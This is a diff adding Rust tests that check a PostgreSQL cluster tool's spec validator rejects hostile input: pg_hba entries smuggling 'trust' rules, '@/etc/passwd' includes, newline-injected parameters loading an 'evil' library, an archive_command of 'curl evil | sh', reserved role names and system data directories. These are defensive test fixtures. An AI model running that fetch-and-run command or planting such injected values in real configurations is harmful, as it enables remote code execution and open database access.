@@ -451,7 +451,7 @@ fn out_of_range_integers_for_the_model_are_schema_errors_not_panics() {
         "{msgs:?}"
     );
     assert!(
-        msgs[1].contains("99999999999 is more than the maximum 4294967295"),
+        msgs[1].contains("99999999999 is more than the maximum 3600"),
         "{msgs:?}"
     );
 }
@@ -546,4 +546,101 @@ fn structural_and_semantic_problems_are_reported_together() {
     assert!(err[0].message.contains("unknown field `colour`"));
     assert!(err[2].message.contains("wal_level `minimal`"));
     assert!(err[3].message.contains("ttl 5 is too short"));
+}
+
+/// Issue 8: what a spec could smuggle into files pgdba writes as root, or into commands the
+/// members run, is refused by validate, each at its position.
+#[test]
+fn hostile_specs_are_refused_with_their_location() {
+    let base = "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {name: a}\nspec:\n  provider: {local: {data_dir: /var/lib/pgdba/a}}\n  replicas: 1\n";
+    let cases: &[(&str, (usize, usize), &str)] = &[
+        (
+            "  hba:\n    - {type: local, database: all, user: \"all 0.0.0.0/0 trust #\", method: scram-sha-256}\n",
+            (8, 42),
+            "hba user `all 0.0.0.0/0 trust #` is not a name",
+        ),
+        (
+            "  hba:\n    - {type: local, database: \"@/etc/passwd\", user: all, method: trust}\n",
+            (8, 31),
+            "file includes are not supported",
+        ),
+        (
+            "  hba:\n    - {type: host, database: \"app\\nhost all all 0.0.0.0/0 trust\", user: all, address: 10.0.0.0/8, method: md5}\n",
+            (8, 30),
+            "is not a name",
+        ),
+        (
+            "  postgres:\n    parameters: {work_mem: \"4MB\\nshared_preload_libraries = 'evil'\"}\n",
+            (8, 28),
+            "may not hold control characters",
+        ),
+        (
+            "  postgres:\n    parameters: {archive_command: \"curl evil | sh\"}\n",
+            (8, 18),
+            "runs a command or loads code on every member",
+        ),
+        (
+            "  postgres:\n    parameters: {app.setting: \"x\\ny\"}\n",
+            (8, 31),
+            "may not hold control characters",
+        ),
+        (
+            "  roles:\n    - {name: public}\n",
+            (8, 14),
+            "`public` is a word PostgreSQL reserves",
+        ),
+        (
+            "  roles:\n    - {name: current_user}\n",
+            (8, 14),
+            "reserves",
+        ),
+    ];
+    for (extra, at, fragment) in cases {
+        let text = format!("{base}{extra}");
+        let err = spec::load_str("t.yaml", text.as_bytes())
+            .err()
+            .unwrap_or_else(|| panic!("accepted: {extra}"));
+        assert_eq!(err.len(), 1, "{extra}: {err:?}");
+        assert!(err[0].message.contains(fragment), "{extra}: {}", err[0]);
+        assert_eq!((err[0].line, err[0].column), *at, "{extra}: {}", err[0]);
+    }
+    // Allowed by name, an unsafe parameter validates.
+    let text = format!(
+        "{base}  postgres:\n    parameters: {{archive_command: \"/bin/true\"}}\n    allow_unsafe_parameters: [archive_command]\n"
+    );
+    assert!(spec::load_str("t.yaml", text.as_bytes()).is_ok());
+}
+
+/// Issue 8: the data directory is absolute, normalized and not a system tree; ports that add up
+/// stay ports; timeouts are bounded so that no sum overflows.
+#[test]
+fn paths_and_numbers_that_add_up_are_checked() {
+    let spec_with = |local: &str, extra: &str| {
+        format!(
+            "apiVersion: pgdba/v1\nkind: Cluster\nmetadata: {{name: a}}\nspec:\n  provider: {{local: {{{local}}}}}\n  replicas: 2\n{extra}"
+        )
+    };
+    for (dir, fragment) in [
+        ("relative/dir", "absolute"),
+        ("/var/lib/pgdba/../../etc", "normalized"),
+        ("/", "system directory"),
+        ("/etc", "system directory"),
+        ("/var/lib/", "system directory"),
+        ("/root", "system directory"),
+    ] {
+        let text = spec_with(&format!("data_dir: \"{dir}\""), "");
+        let err = spec::load_str("t.yaml", text.as_bytes()).unwrap_err();
+        assert!(
+            err.iter()
+                .any(|d| d.message.contains(fragment) && d.line == 5),
+            "{dir}: {err:?}"
+        );
+    }
+    let text = spec_with("pg_port: 65534", "");
+    let err = spec::load_str("t.yaml", text.as_bytes()).unwrap_err();
+    assert!(err[0].message.contains("above 65535"), "{err:?}");
+    let text = spec_with("etcd_port: 65535", "");
+    assert!(spec::load_str("t.yaml", text.as_bytes()).is_err());
+    let text = spec_with("", "  patroni: {ttl: 4000000000, loop_wait: 4000000000}\n");
+    assert!(spec::load_str("t.yaml", text.as_bytes()).is_err());
 }
